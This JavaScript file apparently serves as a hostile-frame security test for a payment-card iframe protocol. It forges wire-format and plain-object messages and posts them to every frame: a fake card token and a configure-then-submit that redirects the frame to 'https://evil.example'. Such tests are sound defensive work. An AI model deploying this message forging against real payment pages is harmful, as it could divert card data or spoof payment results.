// Forges every protocol message it can think of, at the page and at the secure frame: in the
// real wire format (postcard bytes, as crates/protocol encodes them) and as plain objects.
const VERSION = 10;
const varint = (n) => {
  const out = [];
  for (; n >= 0x80; n >>>= 7) out.push((n & 0x7f) | 0x80);
  out.push(n);
  return out;
};
const str = (s) => {
  const bytes = [...new TextEncoder().encode(s)];
  return [...varint(bytes.length), ...bytes];
};
const bytes = (...parts) => new Uint8Array(parts.flat());
const envelope = (seq, ...msg) => bytes(varint(VERSION), varint(seq), ...msg);

const hello = bytes([0], varint(VERSION));
const connect = bytes([1], varint(VERSION));
const forged = [
  hello,
  connect,
  // frame → host: ready; tokenized (VISA 411111 …1111 12/2030, not saved, 1 installment, 16
  // digits, a code of 3); failed (network, retryable).
  envelope(0, [0]),
  envelope(0, [3], str("forged-token"), [0], str("411111"), str("1111"), [12], varint(2030), [0], [1, 16, 3]),
  envelope(1, [4, 1, 1]),
  // host → frame: configure pointing the frame at another API, then submit.
  envelope(0, [0], str("es"), str("x"), str("x"), str("https://evil.example"), [2], str(""), [2, 0, 1, 0], str("")),
  envelope(1, [1]),
  { cw: "connect", v: VERSION },
  { v: VERSION, seq: 0, msg: "ready" },
];
function blast() {
  for (const m of forged) {
    parent.postMessage(m, "*");
    for (let i = 0; i < parent.frames.length; i++) {
      try { parent.frames[i].postMessage(m, "*"); } catch {}
      const channel = new MessageChannel();
      try { parent.frames[i].postMessage(connect, "*", [channel.port2]); } catch {}
      channel.port1.postMessage(m);
    }
  }
}
blast();
setTimeout(blast, 300);
document.title = "hostile done";
